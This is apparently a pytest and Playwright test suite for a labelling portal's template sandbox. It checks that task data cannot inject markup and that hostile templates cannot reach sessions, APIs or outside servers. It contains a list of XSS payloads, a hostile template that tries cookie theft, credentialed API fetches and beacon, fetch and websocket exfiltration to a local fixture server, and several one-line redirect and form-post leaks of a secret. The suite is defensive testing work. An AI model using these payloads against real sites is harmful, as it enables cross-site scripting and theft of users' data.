"""Task data cannot become markup, and a hostile template reaches neither session, API, nor another place."""

from __future__ import annotations

import threading
from collections.abc import Callable, Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from typing import Any

import pytest
from playwright.sync_api import expect

SCRIPT = '<script src="https://assets.crowd.aws/crowd-html-elements.js"></script>'

PAYLOADS = [
    "<script>parent.hit = window.hit = 1</script>",
    "<img src=x onerror='window.hit=1'>",
    '"><svg onload=window.hit=1>',
    "' onmouseover='window.hit=1' x='",
    "</textarea><script>window.hit=1</script>",
    "</script><script>window.hit=1</script>",
    "&lt;img src=x onerror=window.hit=1&gt;",
    "&#60;script&#62;window.hit=1&#60;/script&#62;",
    "<crowd-input name='planted' value='1'></crowd-input>",
    "<iframe srcdoc='<script>parent.hit=1</script>'></iframe>",
    "javascript:window.hit=1",
    "{{ 'x' | skip_autoescape }}<b>",
    "<style>*{display:none}</style>",
    "\u2028</title><base href='https://evil.example/'>",
    "<!--><script>window.hit=1</script>-->",
    "`${window.hit=1}`",
]

TEMPLATE = f"""{SCRIPT}
<crowd-form>
  <crowd-classifier name="decision" categories="{{{{ task.input.labels | to_json | escape }}}}"
      header="{{{{ task.input.x }}}}">
    <classification-target>{{{{ task.input.x }}}}
      <b title='{{{{ task.input.x }}}}'>{{{{ task.input.x | escape }}}}</b>
      <textarea name="t">{{{{ task.input.x }}}}</textarea>
      {{% capture c %}}<i>{{{{ task.input.x }}}}</i>{{% endcapture %}}{{{{ c }}}}</classification-target>
    <full-instructions header="{{{{ task.input.x }}}}">{{{{ task.input.whole }}}}</full-instructions>
    <short-instructions>{{{{ task.input.x | append: task.input.x }}}}</short-instructions>
  </crowd-classifier>
  <script>window.data = {{{{ task.input.whole | to_json | skip_autoescape }}}};</script>
</crowd-form>"""

COUNT = """() => {
  const names = [];
  const walk = (root) => {
    for (const element of root.querySelectorAll('*')) {
      names.push(element.localName + ' ' + element.getAttributeNames().sort().join(' '));
      if (element.shadowRoot) walk(element.shadowRoot);
    }
  };
  walk(document);
  return names;
}"""


def test_task_data_adds_no_element_attribute_or_script(desk: Callable[..., Any]) -> None:
    def anatomy(x: str) -> tuple[list[str], object, str]:
        at_desk = desk(TEMPLATE, x=x, labels=["a", x], whole={"k": x, x: [x]})
        target = at_desk.frame.get_by_role("radio", name="a", exact=True)
        target.wait_for()
        body = at_desk.frame.locator("html")
        result = (
            body.evaluate(COUNT),
            body.evaluate("() => window.hit"),
            body.evaluate("() => window.data.k"),
        )
        at_desk.context.close()
        return result

    harmless, _, _ = anatomy("harmless")
    together = "".join(PAYLOADS)
    for payload in [*PAYLOADS[:3], together]:
        elements, hit, data = anatomy(payload)
        assert elements == harmless
        assert hit is None
        assert data == payload


@pytest.fixture
def outside() -> Iterator[tuple[str, list[str]]]:
    """A server that a hostile template would like to talk to, and what it heard."""
    heard: list[str] = []

    class Handler(BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            heard.append(self.path)
            self.send_response(200)
            self.send_header("Access-Control-Allow-Origin", "*")
            self.end_headers()

        def do_POST(self) -> None:
            self.do_GET()

        def log_message(self, format: str, *args: object) -> None:  # noqa: A002
            """Keep quiet."""

    server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    thread = threading.Thread(target=server.serve_forever, kwargs={"poll_interval": 0.02}, daemon=True)
    thread.start()
    yield f"http://127.0.0.1:{server.server_port}", heard
    server.shutdown()
    server.server_close()
    thread.join(timeout=5)


HOSTILE = (
    SCRIPT
    + """<crowd-form><crowd-input name="x" label="X"></crowd-input></crowd-form>
<link rel="stylesheet" href="%OUT%/style.css"><img src="%OUT%/image?d={{ task.input.secret }}">
<script src="%OUT%/script.js"></script>
<pre id="log"></pre>
<script>
(async () => {
  const attempt = async (name, action) => {
    let result;
    try { result = "done:" + String(await action()); } catch (error) { result = "refused"; }
    log.textContent += name + "=" + result + "\\n";
  };
  await attempt("cookie", () => document.cookie);
  await attempt("storage", () => { if (!(localStorage instanceof Storage)) throw 0; });
  await attempt("parent", () => parent.document.title);
  await attempt("top", () => { top.location = "%OUT%/top"; return top.location.href; });
  await attempt("session", () => fetch("/portal/api/session"));
  await attempt("tasks", () => fetch("/portal/api/tasks", {credentials: "include", mode: "no-cors"}));
  navigator.sendBeacon("%OUT%/beacon", "d");
  await attempt("fetch", () => fetch("%OUT%/fetch", {mode: "no-cors"}));
  await attempt("socket", () => new Promise((yes, no) => {
    const socket = new WebSocket("%OUT%/socket".replace("http", "ws"));
    socket.onopen = yes; socket.onerror = no;
  }));
  await attempt("worker", () => new Promise((yes, no) => {
    const worker = new Worker("data:text/javascript,postMessage(1)");
    worker.onmessage = yes; worker.onerror = no;
  }));
  await attempt("popup", () => { if (!window.open("%OUT%/popup")) throw 0; });
  const inner = document.createElement("iframe"); inner.src = "%OUT%/frame"; document.body.append(inner);
  log.textContent += "end";
})();
</script>"""
)


def test_a_hostile_template_reaches_nothing(desk: Callable[..., Any], outside: tuple[str, list[str]]) -> None:
    address, heard = outside
    at_desk = desk(HOSTILE.replace("%OUT%", address), secret="s3cr3t")
    log = at_desk.frame.locator("#log")
    expect(log).to_contain_text("end")
    results = dict(line.split("=", 1) for line in log.inner_text().splitlines() if "=" in line)
    assert set(results.values()) == {"refused"}
    assert len(results) == 10
    assert at_desk.page.url.startswith(at_desk.url)
    notice = at_desk.page.locator(".notice")
    for part in ("/style.css", "/script.js", "/image"):
        expect(notice).to_contain_text(address + part)
    assert heard == []
    at_desk.frame.get_by_label("X").fill("still works")
    assert at_desk.submit() == {"x": "still works"}


@pytest.mark.parametrize(
    "way_out",
    [
        "location.href = '%OUT%/leak?d=' + secret;",
        "const a = document.body.appendChild(document.createElement('a'));"
        "a.href = '%OUT%/' + secret; a.click();",
        "const f = document.body.appendChild(document.createElement('form')); f.action = '%OUT%/' + secret;"
        "f.method = 'post'; f.submit();",
        "const f = document.body.appendChild(document.createElement('form')); f.action = '%OUT%/' + secret;"
        "f.target = '_top'; f.submit();",
        "document.write('<meta http-equiv=refresh content=\"0;url=%OUT%/' + secret + '\">');",
    ],
)
def test_a_frame_that_goes_away_takes_nothing_along(
    desk: Callable[..., Any], outside: tuple[str, list[str]], way_out: str
) -> None:
    address, heard = outside
    at_desk = desk(
        SCRIPT
        + "<crowd-form></crowd-form>"
        + "<script>const secret = {{ task.input.secret | to_json | skip_autoescape }};"
        + way_out.replace("%OUT%", address)
        + "</script>",
        secret="s3cr3t",
    )
    at_desk.page.wait_for_timeout(400)
    assert heard == []
    assert at_desk.page.url.startswith(at_desk.url)


def test_the_frame_cannot_turn_into_another_page_of_the_portal(desk: Callable[..., Any]) -> None:
    at_desk = desk(SCRIPT + "<crowd-form></crowd-form><script>location.href = '/portal/api/tasks';</script>")
    at_desk.page.wait_for_timeout(300)
    texts = [frame.content() for frame in at_desk.page.frames[1:]]
    assert not any("loop-1" in text or "task_id" in text for text in texts)


def test_messages_count_only_from_the_task_with_its_nonce(desk: Callable[..., Any]) -> None:
    at_desk = desk(
        SCRIPT
        + """<crowd-form><crowd-input name="x" label="X"></crowd-input></crowd-form><script>
        parent.postMessage({type: "submit", answer: {forged: 1}, overread: "guess"}, "*");
        parent.postMessage({type: "submit", answer: {forged: 2}}, "*");
        parent.postMessage(null, "*"); parent.postMessage("submit", "*");</script>"""
    )
    at_desk.frame.get_by_label("X").wait_for()
    at_desk.page.evaluate(
        """() => {
          const nonce = document.querySelector("iframe").src.split("#")[1];
          window.postMessage({type: "submit", answer: {forged: 3}, overread: nonce}, "*");
        }"""
    )
    at_desk.page.wait_for_timeout(300)
    assert at_desk.lab.loop("loop-1").answers == ()
    at_desk.frame.get_by_label("X").fill("real")
    assert at_desk.submit() == {"x": "real"}


def test_the_portals_own_page_runs_under_a_strict_policy(desk: Callable[..., Any]) -> None:
    at_desk = desk(TEMPLATE, at_task=False, x="x", labels=["a"], whole={})
    reply = at_desk.page.request.get(f"{at_desk.url}/portal/")
    policy = reply.headers["content-security-policy"]
    for part in ("default-src 'none'", "script-src 'self'", "frame-src 'self'", "frame-ancestors 'none'"):
        assert part in policy
    assert "unsafe" not in policy
    frame = at_desk.page.request.get(f"{at_desk.url}/portal/tasks/loop-1/frame")
    assert frame.status == 409


def test_an_object_signed_for_the_task_loads_and_its_neighbour_does_not(
    desk: Callable[..., Any], outside: tuple[str, list[str]]
) -> None:
    address, heard = outside
    at_desk = desk(
        SCRIPT
        + """<crowd-form><img id="mine" src="{{ task.input.image | grant_read_access }}">
        <img src="{{ task.input.neighbour }}"></crowd-form>""",
        at_task=False,
        image="s3://inputs/cases/7.png",
        neighbour=f"{address}/inputs/cases/8.png",
    )
    at_desk.lab.documents.objects_url = address
    at_desk.open_task()
    expect(at_desk.page.locator(".notice")).to_contain_text("/inputs/cases/8.png")
    at_desk.page.wait_for_load_state("networkidle")
    assert [path.partition("?")[0] for path in heard] == ["/inputs/cases/7.png"]
